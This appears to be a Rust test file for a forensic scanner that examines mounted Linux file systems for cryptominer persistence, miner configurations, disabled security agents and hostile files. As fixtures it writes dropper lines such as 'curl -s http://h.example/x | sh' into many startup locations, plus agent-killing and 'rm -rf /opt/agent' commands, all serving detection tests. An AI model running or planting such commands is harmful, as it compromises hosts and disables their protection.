//! Mounted roots: one where an intruder was, one where none was, and hostile ones.

use std::fs::{self, File, FileTimes};
use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::SystemTime;

use minehound_model::{
    Autostart, EntityId, FactKind, FileTrace, HostProfile, MinerConfig, Protection,
    ProtectionChange,
};

use super::*;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures").join(name)
}

#[track_caller]
pub(super) fn check(found: &[(&str, &Autostart)], place: &str, shapes: &[&str], miner: bool) {
    let entry = found.iter().find(|(it, _)| *it == place).unwrap_or_else(|| panic!("{place}"));
    assert_eq!(
        (entry.1.shapes.as_slice(), entry.1.miner.is_some()),
        (shapes.iter().map(|it| (*it).to_owned()).collect::<Vec<_>>().as_slice(), miner)
    );
}

#[test]
fn what_an_intruder_left_is_found() {
    let collected = inspect_root(fixture("host-infected-root"));
    let found: Vec<(&str, &Autostart)> = facts(&collected);
    check(&found, "/etc/cron.d/apache:2", &["fetch-pipe-shell"], false);
    check(&found, "/var/spool/cron/crontabs/root:1", &["hidden-folder"], false);
    check(&found, "/etc/cron.hourly/oanacron:2", &["decode-pipe-shell"], false);
    check(&found, "/etc/systemd/system/timed.service:5", &[], true);
    check(&found, "/etc/systemd/system/timed.timer", &[], false);
    check(&found, "/etc/ld.so.preload:1", &[], false);
    check(&found, "/etc/rc.local:2", &["temporary-folder"], false);
    check(&found, "/root/.ssh/authorized_keys:1", &["hidden-folder", "temporary-folder"], false);
    check(&found, "/home/user/.config/autostart/update.desktop:3", &["hidden-folder"], false);
    check(&found, "/etc/udev/rules.d/70-usb.rules:1", &[], false);

    let configs: Vec<(&str, &MinerConfig)> = facts(&collected);
    let [(place, config)] = configs.as_slice() else { panic!("{configs:?}") };
    assert_eq!(*place, "/usr/share/.fonts/config.json");
    assert_eq!(
        (config.shape.as_str(), config.pools.as_slice()),
        ("xmrig", &["pool.example:3333".to_owned()][..])
    );
    assert_eq!(
        (config.users.as_slice(), config.wallets.len()),
        (&["PLACEHOLDER-WALLET".to_owned()][..], 0)
    );

    let changes: Vec<(&str, &Protection)> = facts(&collected);
    for (place, change, what) in [
        ("/etc/systemd/system/sleep.target", ProtectionChange::SleepMasked, "sleep.target"),
        ("/etc/ld.so.preload", ProtectionChange::PreloadInUse, "/usr/local/lib/libhide.so"),
        ("/etc/hosts:2", ProtectionChange::HostsRedirect, "pool.example -> 192.0.2.9"),
        ("/etc/hosts:3", ProtectionChange::HostsRedirect, "update.vendor.example -> 127.0.0.1"),
        ("/opt/agent", ProtectionChange::AgentRemoved, "example-agent"),
        ("/etc/modules-load.d/net.conf", ProtectionChange::RootkitModule, "rk_example"),
    ] {
        let expected = Protection { change, what: what.to_owned(), ..Protection::default() };
        assert!(changes.contains(&(place, &expected)), "{place} {changes:?}");
    }
    assert_eq!(changes.len(), 6, "{changes:?}");

    let traces: Vec<(&str, &FileTrace)> = facts(&collected);
    let traces: Vec<_> = traces.iter().map(|(place, it)| (*place, it.shape.as_str())).collect();
    assert_eq!(
        traces,
        [("/etc/cron.hourly/oanacron", "family-path"), ("/tmp/.X11/run.sh", "launch-script")]
    );
}

#[test]
fn what_can_be_run_beside_a_configuration_is_named_with_it() {
    use std::os::unix::fs::PermissionsExt;
    let root = tempfile::tempdir().unwrap();
    let path = |it: &str| root.path().join("opt/svc").join(it);
    fs::create_dir_all(path("")).unwrap();
    let config = r#"{"donate-level": 1, "randomx": {}, "pools": [{"url": "pool.example:3333", "user": "a"}]}"#;
    for (name, content, mode) in
        [("config.json", config, 0o644), ("xmrig", "\x7fELF", 0o755), ("notes", "text", 0o644)]
    {
        fs::write(path(name), content).unwrap();
        fs::set_permissions(path(name), fs::Permissions::from_mode(mode)).unwrap();
    }
    let collected = inspect_root(root.path().to_path_buf());
    let configs: Vec<(&str, &MinerConfig)> = facts(&collected);
    let [(place, config)] = configs.as_slice() else { panic!("{configs:?}") };
    assert_eq!(
        (*place, config.beside.as_slice()),
        ("/opt/svc/config.json", &["xmrig".to_owned()][..])
    );
}

#[test]
fn a_dropper_is_found_in_every_place_that_starts_something() {
    let root = tempfile::tempdir().unwrap();
    let dropper = &b"#!/bin/sh\ncurl -s http://h.example/x | sh\n"[..];
    let places = [
        "/etc/NetworkManager/dispatcher.d/99-x",
        "/etc/NetworkManager/dispatcher.d/pre-up.d/x",
        "/etc/fish/conf.d/x.fish",
        "/etc/fish/config.fish",
        "/etc/network/if-up.d/x",
        "/etc/ppp/ip-up.d/x",
        "/etc/rc3.d/S99x",
        "/etc/rcS.d/S01x",
        "/etc/ssh/sshrc",
        "/home/alice/.config/fish/conf.d/x.fish",
        "/home/alice/.config/fish/config.fish",
        "/home/alice/.ssh/rc",
        "/home/alice/.xinitrc",
        "/home/alice/.xsession",
        "/home/alice/.zlogin",
    ];
    let passwd = &b"alice:x:1000:1000::/home/alice:/bin/sh\n"[..];
    let inittab =
        &b"id:3:initdefault:\nx:2345:respawn:+/bin/sh -c 'curl -s http://h.example/x | sh'\n"[..];
    let mut files: Vec<_> = places.iter().map(|it| (*it, dropper)).collect();
    let named = &b"#!/bin/sh\npkill xmrig\n/opt/x/xmrig &\n"[..];
    files.extend([("/etc/passwd", passwd), ("/etc/inittab", inittab), ("/etc/rc.local", named)]);
    write_all(root.path(), &files);
    // A link into `init.d` is the same script and told once.
    write_all(root.path(), &[("/etc/init.d/y", &b"#!/bin/sh\nexit 0\n"[..])]);
    symlink("../init.d/y", root.path().join("etc/rc3.d/S50y")).unwrap();
    let collected = inspect_root(root.path().to_path_buf());
    let found: Vec<(&str, &Autostart)> = facts(&collected);
    for place in places {
        check(&found, &format!("{place}:2"), &["fetch-pipe-shell"], false);
    }
    check(&found, "/etc/inittab:2", &["fetch-pipe-shell"], false);
    check(&found, "/etc/rc.local:3", &[], false);
    assert_eq!(found.iter().filter(|it| it.0.ends_with('y')).count(), 1);
    assert_eq!(found.len(), places.len() + 3);
}

#[test]
fn a_script_that_removes_an_agent_is_told_and_the_agents_own_is_not() {
    let root = tempfile::tempdir().unwrap();
    write_all(
        root.path(),
        &[
            ("/tmp/ldr.sh", b"#!/bin/sh\npkill x\nsystemctl stop agentd; rm -rf /opt/agent\n"),
            ("/etc/cron.d/x", b"* * * * * root /opt/agent/uninstall.sh --token abc\n"),
            ("/etc/rc.local", b"#!/bin/sh\n# pkill agentd\necho pkill agentd\nkillall agentd\n"),
            ("/opt/agent/bin/off.sh", b"#!/bin/sh\npkill agentd\n"),
            ("/etc/init.d/agentd", b"#!/bin/sh\nkillall agentd\n"),
        ],
    );
    let collected = inspect_root(root.path().to_path_buf());
    let found = facts::<Protection>(&collected).into_iter();
    let scripted = found.filter(|it| it.1.change == ProtectionChange::RemovalScripted);
    let found: Vec<_> = scripted
        .map(|(place, it)| (place, it.what.as_str(), it.command.as_deref().unwrap_or_default()))
        .collect();
    assert_eq!(
        found,
        [
            ("/etc/cron.d/x:1", "example-agent", "/opt/agent/uninstall.sh --token ***"),
            ("/etc/rc.local:4", "example-agent", "killall agentd"),
            ("/tmp/ldr.sh:3", "example-agent", "systemctl stop agentd; rm -rf /opt/agent"),
        ]
    );
}

#[test]
fn what_starts_by_itself_is_kept_without_its_password_and_with_its_logins() {
    let root = tempfile::tempdir().unwrap();
    let table = b"@reboot root /opt/x -o pool.example:3333 -a rx/0 -u zhangsan.rig1 -p Secret123 \
        --rig-id lab-7\n";
    write_all(root.path(), &[("/etc/cron.d/x", table)]);
    let collected = inspect_root(root.path().to_path_buf());
    let [(_, entry)] = facts::<Autostart>(&collected)[..] else { panic!("one entry") };
    assert!(!entry.command.contains("Secret123") && entry.command.contains("-p ***"));
    assert_eq!(entry.logins, ["zhangsan.rig1", "lab-7"]);
    let mut saved = Vec::new();
    write_bundle(&collected, &mut saved).unwrap();
    assert!(!String::from_utf8(saved).unwrap().contains("Secret123"), "nor is it saved");
}

const CONFIG: &str =
    r#"{"donate-level": 1, "randomx": {}, "pools": [{"url": "pool.example:3333", "user": "a"}]}"#;

pub(super) fn write_all(root: &Path, files: &[(&str, &[u8])]) {
    for (path, content) in files {
        let path = root.join(path.trim_start_matches('/'));
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }
}

fn gaps(collected: &Collected, kind: FactKind) -> Vec<&str> {
    let of_kind = collected.examined.iter().filter(|it| it.kind == kind);
    of_kind.flat_map(|it| it.gaps.iter().map(String::as_str)).collect()
}

#[test]
fn configurations_are_found_wherever_a_person_would_put_them() {
    let root = tempfile::tempdir().unwrap();
    let folders = [
        "/data/m",
        "/etc/m",
        "/home/alice/Downloads/xmrig-6.21.0",
        "/home/alice/a/b/c/d/e",
        "/mining",
        "/mnt/d/xmrig",
        "/opt/a/b",
        "/usr/share/x",
        "/var/lib/m",
        "/var/www/html/m",
    ];
    let files: Vec<_> = folders.iter().map(|it| format!("{it}/config.json")).collect();
    let files: Vec<_> = files.iter().map(|it| (it.as_str(), CONFIG.as_bytes())).collect();
    write_all(root.path(), &files);
    let collected = inspect_root(root.path().to_path_buf());
    let mut found: Vec<&str> =
        facts::<MinerConfig>(&collected).into_iter().map(|it| it.0).collect();
    found.sort_unstable();
    assert_eq!(found, files.iter().map(|it| it.0).collect::<Vec<_>>());
    assert_eq!(gaps(&collected, FactKind::MinerConfig), [""; 0], "nothing was left out");
}

#[test]
fn program_files_with_a_miners_name_are_found_and_others_are_not_opened() {
    let root = tempfile::tempdir().unwrap();
    let (elf, exe, script) = (&b"\x7fELF"[..], &b"MZ"[..], &b"#!/bin/sh\n"[..]);
    write_all(
        root.path(),
        &[
            ("/usr/bin/xmrig", elf),
            ("/home/alice/a/b/XMRig-6.21.0", elf),
            ("/opt/t-rex/bin/x/t-rex.exe", exe),
            ("/usr/local/bin/xmrig", script),
            ("/usr/bin/xmrigger", elf),
            ("/usr/share/doc/xmrig", b"a text"),
            ("/usr/share/xmrig/README", elf),
        ],
    );
    let collected = inspect_root(root.path().to_path_buf());
    let mut found: Vec<_> =
        facts::<FileTrace>(&collected).iter().map(|it| (it.0, it.1.shape.as_str())).collect();
    found.sort_unstable();
    assert_eq!(
        found,
        [
            ("/home/alice/a/b/XMRig-6.21.0", "program-named"),
            ("/opt/t-rex/bin/x/t-rex.exe", "program-named"),
            ("/usr/bin/xmrig", "program-named"),
            ("/usr/local/bin/xmrig", "script-named"),
        ]
    );
}

#[test]
fn what_a_bound_cuts_off_is_named_and_the_same_each_time() {
    let root = tempfile::tempdir().unwrap();
    for package in 0..300 {
        let path = root.path().join(format!("usr/lib/cache/{package}/inner"));
        fs::create_dir_all(path).unwrap();
    }
    write_all(root.path(), &[("/home/alice/a/b/c/d/config.json", CONFIG.as_bytes())]);
    let limits = HostLimits { search_names: 400, ..HostLimits::offline() };
    let options = HostOptions {
        root: Some(root.path().to_path_buf()),
        interest: interest(),
        limits,
        ..HostOptions::default()
    };
    let collected = inspect_with(&options);
    assert_eq!(facts::<MinerConfig>(&collected).len(), 1, "the narrow path comes first");
    let expected = ["budget", "not-searched:/usr/lib"];
    assert_eq!(gaps(&collected, FactKind::MinerConfig), expected);
    assert_eq!(gaps(&collected, FactKind::FileTrace), expected);
    assert_eq!(inspect_with(&options).observations, collected.observations);
}

#[test]
fn a_clean_machine_shows_nothing_odd() {
    let collected = inspect_root(fixture("host-clean-root"));
    let found: Vec<(&str, &Autostart)> = facts(&collected);
    assert!(found.len() >= 7, "ordinary entries are kept: {found:?}");
    let odd = found.iter().filter(|(_, it)| !it.shapes.is_empty() || it.miner.is_some());
    assert_eq!(odd.count(), 0, "{found:?}");
    assert!(facts::<MinerConfig>(&collected).is_empty());
    assert!(facts::<Protection>(&collected).is_empty());
    assert!(facts::<FileTrace>(&collected).is_empty());
}

#[test]
fn a_root_is_named_by_itself_and_nothing_live_is_claimed() {
    let collected = inspect_root(fixture("host-clean-root"));
    let [(_, profile)] = facts::<HostProfile>(&collected)[..] else { panic!("one profile") };
    assert_eq!((profile.hostname.as_str(), profile.offline), ("bench-3", true));
    let host = EntityId::try_from("host:bench-3".to_owned()).unwrap();
    assert!(collected.observations.iter().all(|it| it.entity == host));
    let live = [FactKind::Program, FactKind::HiddenProcess, FactKind::Device, FactKind::CpuLoad];
    assert!(collected.examined.iter().all(|it| !live.contains(&it.kind)));
    for kind in [FactKind::Autostart, FactKind::MinerConfig, FactKind::FileTrace] {
        assert!(collected.examined.iter().any(|it| it.kind == kind), "{kind}");
    }
}

#[test]
fn records_are_numbered_as_the_lines_of_the_bundle() {
    let collected = inspect_root(fixture("host-infected-root"));
    let mut bytes = Vec::new();
    write_bundle(&collected, &mut bytes).unwrap();
    let mut again = Collected::default();
    read_bundle(&bytes, ArtefactId(3), &mut again).unwrap();
    assert_eq!(again.observations, collected.observations);
    assert_eq!(inspect_root(fixture("host-infected-root")).observations, collected.observations);
}

#[test]
fn a_planted_time_is_told_from_a_machine_of_one_time() {
    let old = SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000);
    for (all_alike, expected) in [(false, true), (true, false)] {
        let root = tempfile::tempdir().unwrap();
        let path = |it: &str| root.path().join(it);
        fs::create_dir_all(path("etc/cron.d")).unwrap();
        fs::create_dir_all(path("bin")).unwrap();
        let write = |name: &str, borrowed: bool| {
            fs::write(path(name), "* * * * * root /bin/true\n").unwrap();
            if borrowed {
                let file = File::options().write(true).open(path(name)).unwrap();
                file.set_times(FileTimes::new().set_modified(old)).unwrap();
            }
        };
        write("bin/sh", true);
        write("etc/cron.d/planted", true);
        for number in 0..150 {
            write(&format!("etc/setting-{number}"), all_alike);
        }
        let collected = inspect_root(root.path().to_path_buf());
        let [(_, entry)] = facts::<Autostart>(&collected)[..] else { panic!("one entry") };
        assert_eq!(entry.borrowed_time, expected);
    }
}

#[test]
fn hostile_files_neither_block_nor_escape_nor_exhaust() {
    let root = tempfile::tempdir().unwrap();
    let path = |it: &str| root.path().join(it);
    for folder in ["etc/cron.d", "etc/profile.d", "tmp", "var/spool/cron", "root/.ssh"] {
        fs::create_dir_all(path(folder)).unwrap();
    }
    let pipe = |it: &str| {
        let (kind, mode) = (rustix::fs::FileType::Fifo, rustix::fs::Mode::RUSR);
        rustix::fs::mknodat(rustix::fs::CWD, path(it), kind, mode, 0).unwrap();
    };
    pipe("etc/cron.d/pipe");
    pipe("tmp/pipe");
    pipe("etc/crontab");
    fs::write(path("etc/cron.d/long"), "* ".repeat(300_000)).unwrap();
    fs::write(path("etc/cron.d/binary"), (0..=255).cycle().take(100_000).collect::<Vec<u8>>())
        .unwrap();
    fs::write(path("etc/profile.d/deep.sh"), "$(".repeat(50_000) + &"{(`'\"".repeat(20_000))
        .unwrap();
    fs::write(path("tmp/nested.json"), "{\"a\":[".repeat(40_000)).unwrap();
    symlink("/etc/cron.d", path("etc/cron.d/again")).unwrap();
    symlink("..", path("tmp/up")).unwrap();
    let outside = tempfile::NamedTempFile::new().unwrap();
    fs::write(&outside, "* * * * * curl http://h.example | sh\n").unwrap();
    symlink(outside.path(), path("var/spool/cron/outside")).unwrap();
    symlink(format!("../../../../../..{}", outside.path().display()), path("etc/cron.d/up"))
        .unwrap();

    let collected = inspect_root(root.path().to_path_buf());
    let found: Vec<(&str, &Autostart)> = facts(&collected);
    assert!(found.iter().all(|(_, it)| it.shapes.is_empty()), "{found:?}");
    assert!(found.iter().all(|(_, it)| it.command.len() <= 1024));
    assert!(collected.skips.counts.keys().any(|it| it.0 == "not-a-file"));
}

#[test]
fn a_root_that_is_none_is_an_error() {
    let missing = HostOptions { root: Some("/no/such/root".into()), ..HostOptions::default() };
    let error = collect(&missing, ArtefactId(0), &mut Collected::default()).unwrap_err();
    assert!(error.to_string().contains("/no/such/root"));
}
